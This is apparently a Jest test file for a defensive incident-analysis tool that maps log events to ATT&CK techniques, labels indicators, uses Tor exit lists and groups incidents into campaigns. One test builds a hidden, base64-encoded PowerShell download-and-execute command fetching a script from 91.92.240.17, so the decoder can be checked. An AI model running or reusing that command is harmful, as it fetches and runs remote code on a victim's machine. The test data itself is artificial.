import * as fs from 'node:fs';
import * as path from 'node:path';
import { loadAttackCatalog } from './attack';
import { loadRuleSet } from './sigma';
import { analyze, AnalysisTimeoutError, buildAnalysisData, narrateDeterministic, type AnalysisDeps } from './analyze';
import type { AnalysisRequest } from './model';
import { IntelIndex, parseFeed } from './intel';
import { sharedPath } from '../testing/shared-data';

const SCENARIO = sharedPath('cases', 'scenarios', 'd1_api_doc_example.json');
const REPO_RULES = path.resolve(__dirname, '..', '..', 'rules');

const deps: AnalysisDeps = { ruleSet: loadRuleSet([REPO_RULES]), catalog: loadAttackCatalog() };

function utf16Base64(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

describe('analyze: the API document example', () => {
  const request = (JSON.parse(fs.readFileSync(SCENARIO, 'utf8')) as { request: AnalysisRequest }).request;
  const findings = analyze(request, deps);
  const data = buildAnalysisData(findings, narrateDeterministic(findings));
  const role = (value: string) => data.indicators.find((i) => i.value === value)?.role;
  const mapped = data.attack_mapping.map((t) => t.technique_id);

  it('names the attacker, the target, the compromised account and the recon tool', () => {
    expect(role('185.220.101.42')).toBe('attacker');
    expect(role('10.0.1.15')).toBe('target');
    expect(role('admin')).toBe('compromised_account');
    expect(role('whoami.exe')).toBe('recon_tool');
  });

  it('maps the remote logon and the user discovery', () => {
    expect(mapped).toContain('T1033');
    expect(mapped.some((id) => ['T1021.004', 'T1021', 'T1078'].includes(id))).toBe(true);
  });

  it('rates a compromised production server with customer PII high or critical', () => {
    expect(['high', 'critical']).toContain(data.severity);
  });

  it('returns the contract fields with a chronological, evidence-citing timeline and specific recommendations', () => {
    expect(Object.keys(data).sort()).toEqual(['attack_mapping', 'impact', 'indicators', 'recommendations', 'root_cause', 'severity', 'summary', 'timeline']);
    expect(data.timeline.map((t) => t.timestamp)).toEqual(['2026-04-03T14:20:00Z', '2026-04-03T14:22:00Z', '2026-04-03T14:25:00Z']);
    expect(data.timeline.every((t) => (t.event_indices ?? []).length > 0)).toBe(true);
    expect(data.recommendations.join('\n')).toMatch(/admin/);
    expect(data.recommendations.join('\n')).toMatch(/Block 185\.220\.101\.42/);
    expect(findings.stats).toMatchObject({ events: 3, untimed: 0 });
  });
});

describe('analyze: threat intel', () => {
  it('labels the attacker from a loaded Tor exit list and cites it in the timeline', () => {
    const intel = new IntelIndex();
    intel.addFeed(parseFeed('185.220.101.42\n185.220.101.43\n', 'tor-exit-nodes.txt'));
    const request = (JSON.parse(fs.readFileSync(SCENARIO, 'utf8')) as { request: AnalysisRequest }).request;
    const findings = analyze(request, { ...deps, intel });
    expect(findings.indicators[0]).toMatchObject({ value: '185.220.101.42', role: 'attacker', intel: ['Tor exit node'] });
    expect(findings.timeline[0].description).toContain('185.220.101.42 (Tor exit node)');
    expect(narrateDeterministic(findings).recommendations.join('\n')).toContain('185.220.101.42 (Tor exit node)');
  });
});

describe('analyze: scopes', () => {
  const t0 = Date.parse('2026-05-01T08:00:00Z');
  const at = (minutes: number) => new Date(t0 + minutes * 60_000).toISOString();
  const failures = (from: string, start: number) => Array.from({ length: 8 }, (_, i) => ({ timestamp: at(start + i / 10), source: 'auth', action: 'login_failed', user: 'root', src_ip: from, dst_ip: '10.0.0.5', service: 'sshd' }));

  it('campaign: reports separate incidents that share the attacker address', () => {
    const request: AnalysisRequest = {
      scope: 'campaign',
      events: { logs: [...failures('91.92.240.17', 0), ...failures('91.92.240.17', 60 * 24)] },
    };
    const findings = analyze(request, deps);
    expect(findings.incidents?.length).toBe(1);
    expect(findings.chains.length).toBe(2);
    expect(findings.timeline.every((t) => t.description.startsWith('[incident-1]'))).toBe(true);
  });

  it('campaign: keeps unrelated intrusions apart even when they share a common account name', () => {
    const d1 = (JSON.parse(fs.readFileSync(SCENARIO, 'utf8')) as { request: AnalysisRequest }).request.events.logs as unknown[];
    const brute = failures('91.92.240.17', 0).map((e) => ({ ...e, user: 'admin' }));
    const findings = analyze({ scope: 'campaign', events: { logs: [...brute, ...d1] } }, deps);
    expect(findings.incidents?.map((i) => i.indicators.slice(0, 1))).toEqual([['185.220.101.42'], ['91.92.240.17']]);
    // Each incident's techniques follow the response's mapping of its own signals: the SSH brute force is not the SSH logon's.
    const [logon, brute2] = findings.incidents ?? [];
    expect(brute2.techniques).toEqual(expect.arrayContaining(['T1110.001']));
    expect(brute2.techniques).not.toContain('T1078.001');
    expect(logon.techniques).toEqual(expect.arrayContaining(['T1021.004']));
    expect(narrateDeterministic(findings).summary).toMatch(/2 related incidents/);
  });

  it('artifact: decodes the encoded command and reports what it fetches', () => {
    const cmd = `powershell -nop -w hidden -enc ${utf16Base64("IEX (New-Object Net.WebClient).DownloadString('http://91.92.240.17/s.ps1')")}`;
    const request: AnalysisRequest = { scope: 'artifact', events: { logs: [{ timestamp: at(0), source: 'endpoint', action: 'process_create', host: 'WS-1', user: 'bob', process: 'powershell.exe', command_line: cmd }] } };
    const findings = analyze(request, deps);
    expect(findings.artifact?.decoded).toContain('DownloadString');
    expect(findings.artifact?.layers[0].method).toBe('powershell_encoded_command');
    expect(findings.indicators).toEqual(expect.arrayContaining([expect.objectContaining({ value: 'http://91.92.240.17/s.ps1', role: 'payload_url' })]));
    expect(findings.techniques.map((t) => t.technique_id)).toEqual(expect.arrayContaining(['T1105', 'T1059.001']));
    const data = buildAnalysisData(findings, narrateDeterministic(findings));
    expect(data.artifact?.decoded).toContain('91.92.240.17');
  });

  it('reports nothing alarming for benign activity', () => {
    const request: AnalysisRequest = { events: { logs: [{ timestamp: at(0), source: 'auth', action: 'login_success', user: 'alice', src_ip: '10.0.0.7', dst_ip: '10.0.0.5' }] } };
    const findings = analyze(request, deps);
    expect(findings.severity).toBe('info');
    expect(findings.indicators).toEqual([]);
    expect(narrateDeterministic(findings).summary).toMatch(/No malicious activity/);
  });
});

describe('analyze: deadline', () => {
  it('throws AnalysisTimeoutError once the deadline has passed', () => {
    const request: AnalysisRequest = { events: { logs: [{ timestamp: '2026-01-01T00:00:00Z', action: 'login_success', user: 'a' }] } };
    expect(() => analyze(request, { ...deps, deadline: 1000, now: () => 2000 })).toThrow(AnalysisTimeoutError);
  });
});
